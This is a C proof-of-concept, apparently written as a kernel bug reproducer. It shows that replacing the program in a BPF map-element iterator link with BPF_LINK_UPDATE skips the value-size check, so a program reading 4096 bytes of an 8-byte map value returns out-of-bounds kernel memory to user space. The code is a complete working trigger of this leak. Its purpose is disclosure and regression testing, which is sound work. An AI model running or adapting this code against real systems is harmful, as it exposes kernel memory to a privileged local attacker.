// SPDX-License-Identifier: MIT OR Apache-2.0
/*
 * BPF_LINK_UPDATE gives an iterator a program that reads beyond a map's values.
 *
 * bpf_iter_attach_map() refuses a program that reaches further into a value than the
 * map's values are long (max_rdwr_access): the verifier does not know which map it will
 * be. bpf_iter_link_replace() puts another program into the link's place, and looks only at
 * its type and what it is attached to. So a link that was made with a program that reads 8
 * bytes of a value takes one that reads 4096, which are handed to user space. It takes
 * CAP_BPF and CAP_PERFMON.
 *
 * gcc -static -Wall -o repro bpf-iter-link-update.c && ./repro
 *
 * Right: the second link and the update are refused (EACCES). Seen on 6.12.117: the link
 * is, the update is not, and read(2) answers 4096 bytes of a value of 8.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static long bpf(int command, union bpf_attr *attr)
{
	return syscall(__NR_bpf, command, attr, sizeof(*attr));
}

/* The number of a function in the kernel's types (Documentation/bpf/btf.rst). */
static uint32_t function(const char *name)
{
	static unsigned char types[32 << 20];
	const int more[] = { [1] = 4, [3] = 12, [14] = 4, [17] = 4 };
	const int each[] = { [4] = 12, [5] = 12, [6] = 8, [13] = 8, [15] = 12, [19] = 12 };
	uint32_t *head = (void *)types, id = 1, *type;
	unsigned char *at, *end, *names;
	ssize_t length, count = 0;
	int fd = open("/sys/kernel/btf/vmlinux", O_RDONLY);

	while ((length = read(fd, types + count, sizeof(types) - count)) > 0)
		count += length;
	if (count < 24)
		return 0;
	at = types + head[1] + head[2];
	end = at + head[3];
	names = types + head[1] + head[4];
	for (; at < end; id++) {
		unsigned int kind;

		type = (void *)at;
		kind = type[1] >> 24 & 0x1f;
		if (kind == 12 && !strcmp((char *)names + type[0], name))
			return id;
		at += 12;
		if (kind < sizeof(more) / sizeof(*more))
			at += more[kind];
		if (kind < sizeof(each) / sizeof(*each))
			at += each[kind] * (type[1] & 0xffff);
	}
	return 0;
}

/* A program that writes so many bytes of each value to what is read. */
static int program(uint32_t of, int bytes)
{
	struct bpf_insn code[] = {
		{ 0x79, 9, 1, 24, 0 },		/* r9 = ctx->value */
		{ 0x79, 1, 1, 0, 0 },		/* r1 = ctx->meta */
		{ 0x79, 1, 1, 0, 0 },		/* r1 = r1->seq */
		{ 0x15, 9, 0, 3, 0 },		/* if (!r9) goto out */
		{ 0xbf, 2, 9, 0, 0 },
		{ 0xb7, 3, 0, 0, bytes },
		{ 0x85, 0, 0, 0, BPF_FUNC_seq_write },
		{ 0xb7, 0, 0, 0, 0 },		/* out: */
		{ 0x95, 0, 0, 0, 0 },
	};
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_TRACING;
	attr.expected_attach_type = BPF_TRACE_ITER;
	attr.attach_btf_id = of;
	attr.insns = (uintptr_t)code;
	attr.insn_cnt = sizeof(code) / sizeof(*code);
	attr.license = (uintptr_t)"GPL";
	return bpf(BPF_PROG_LOAD, &attr);
}

static int attach(int program, int map)
{
	union bpf_iter_link_info info = { .map.map_fd = map };
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.link_create.prog_fd = program;
	attr.link_create.attach_type = BPF_TRACE_ITER;
	attr.link_create.iter_info = (uintptr_t)&info;
	attr.link_create.iter_info_len = sizeof(info);
	return bpf(BPF_LINK_CREATE, &attr);
}

int main(void)
{
	static char bytes[8192];
	uint64_t key = 1, value = 2;
	union bpf_attr attr;
	int map, link, iterator, good, bad;
	uint32_t of;

	if (getpid() == 1) {
		mkdir("/sys", 0755);
		mount("sysfs", "/sys", "sysfs", 0, 0);
	}
	of = function("bpf_iter_bpf_map_elem");
	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_HASH;
	attr.key_size = attr.value_size = 8;
	attr.max_entries = 1;
	attr.map_flags = BPF_F_NO_PREALLOC;
	map = bpf(BPF_MAP_CREATE, &attr);
	memset(&attr, 0, sizeof(attr));
	attr.map_fd = map;
	attr.key = (uintptr_t)&key;
	attr.value = (uintptr_t)&value;
	bpf(BPF_MAP_UPDATE_ELEM, &attr);

	good = program(of, 8);
	bad = program(of, 4096);
	printf("map %d, type %u, programs %d %d\n", map, of, good, bad);
	link = attach(bad, map);
	printf("a link to 4096 bytes of a value of 8: %s\n",
	       link < 0 ? strerror(errno) : "there");
	link = attach(good, map);
	memset(&attr, 0, sizeof(attr));
	attr.link_update.link_fd = link;
	attr.link_update.new_prog_fd = bad;
	printf("the link to 8 bytes is changed: %s\n",
	       bpf(BPF_LINK_UPDATE, &attr) < 0 ? strerror(errno) : "done");
	memset(&attr, 0, sizeof(attr));
	attr.iter_create.link_fd = link;
	iterator = bpf(BPF_ITER_CREATE, &attr);
	printf("read: %zd bytes\n", read(iterator, bytes, sizeof(bytes)));
	fflush(stdout);
	if (getpid() == 1)
		reboot(RB_POWER_OFF);
	return 0;
}
